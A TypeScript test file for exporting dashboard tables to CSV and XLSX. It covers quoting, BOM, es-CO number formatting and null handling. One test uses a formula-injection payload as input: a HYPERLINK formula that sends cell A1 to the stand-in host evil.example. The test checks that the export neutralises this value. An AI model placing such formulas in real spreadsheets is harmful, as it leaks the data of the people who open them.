import { readSheet } from "read-excel-file/node";
import { describe, expect, it } from "vitest";
import { aCsv, aXlsx } from "@/features/tableros/exportar";
import { formatearCelda } from "@/features/tableros/formato";
import type { TablaExportable } from "@/features/tableros/tipos";

const tabla: TablaExportable = {
  nombre: "prueba",
  titulo: "Ejecución por regional",
  columnas: [
    { clave: "regional", titulo: "Regional", tipo: "texto" },
    { clave: "centros", titulo: "Centros", tipo: "entero" },
    { clave: "ejecutado", titulo: "Ejecutado", tipo: "pesos" },
    { clave: "razon", titulo: "Ejecutado / asignado", tipo: "porcentaje" },
  ],
  filas: [
    { regional: 'Bogotá; Distrito "Capital"', centros: 16, ejecutado: 1_234_567_890_123n, razon: 0.875 },
    { regional: "Guainía", centros: 1, ejecutado: 0n, razon: null },
  ],
};

describe("exportar una tabla", () => {
  it("el CSV es UTF-8 con BOM, separado por punto y coma, con comillas donde hacen falta", () => {
    const csv = aCsv(tabla);
    expect(csv.startsWith("\uFEFF")).toBe(true);
    expect(csv.slice(1).split("\r\n")).toEqual([
      "Regional;Centros;Ejecutado (COP);Ejecutado / asignado (%)",
      '"Bogotá; Distrito ""Capital""";16;1234567890123;87,5',
      "Guainía;1;0;No aplica",
      "",
    ]);
  });

  it("un número de acta que es una fórmula sale neutralizado en el CSV y como texto en el xlsx", async () => {
    const ataque: TablaExportable = {
      nombre: "comite-por-centro",
      titulo: "Actas",
      columnas: [{ clave: "numeroActa", titulo: "Número del acta", tipo: "texto" }],
      filas: [{ numeroActa: '=HYPERLINK("http://evil.example/?"&A1,"ver")' }],
    };
    expect(aCsv(ataque).split("\r\n")[1]).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""ver"")"`);
    const [, [celda]] = (await readSheet(await aXlsx(ataque))) as [unknown, [unknown]];
    expect(celda).toBe('=HYPERLINK("http://evil.example/?"&A1,"ver")');
  });

  it("el xlsx es un libro real con números que Excel puede sumar", async () => {
    const filas = await readSheet(await aXlsx(tabla));
    expect(filas).toEqual([
      ["Regional", "Centros", "Ejecutado (COP)", "Ejecutado / asignado (%)"],
      ['Bogotá; Distrito "Capital"', 16, 1_234_567_890_123, 0.875],
      ["Guainía", 1, 0, "No aplica"],
    ]);
  });

  it("en pantalla las mismas cifras se leen en formato es-CO", () => {
    expect(formatearCelda(1_234_567_890_123n, "pesos")).toMatch(/^\$\s1\.234\.567\.890\.123$/);
    expect(formatearCelda(0.875, "porcentaje")).toMatch(/^87,5\s?%$/);
    expect(formatearCelda(null, "porcentaje")).toBe("No aplica");
    expect(formatearCelda(12345, "entero")).toBe("12.345");
  });
});
